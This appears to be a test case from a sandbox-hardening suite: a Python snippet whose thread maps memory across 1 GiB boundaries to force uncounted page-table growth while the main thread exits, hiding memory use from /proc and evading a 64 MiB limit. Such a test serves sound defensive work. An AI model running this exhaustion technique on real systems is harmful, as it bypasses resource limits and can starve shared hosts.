# class: exhaustion
# technique: the first thread ends, so that /proc tells no memory of the process, and another one makes page tables
# layers: supervisor
# single: page tables count for no limit, and the filter lets a thread end
# code: native
# tier: threads
# limits: memory_mib=64
# control: a process whose memory cannot be seen is ended
# witness: memory

import threading
def grow():
    time.sleep(0.1)
    MAP_FIXED_NOREPLACE = 0x100000
    for number in range(1, 25000):
        at = 0x100000000000 + (number << 30) - 4096
        if raw(host["calls"]["mmap"], at, 8192, 3, 0x22 | MAP_FIXED_NOREPLACE, -1, 0) == at:
            ctypes.memset(at, 1, 8192)
    time.sleep(5)
threading.Thread(target=grow, daemon=True).start()
raw(host["calls"]["exit"], 0)
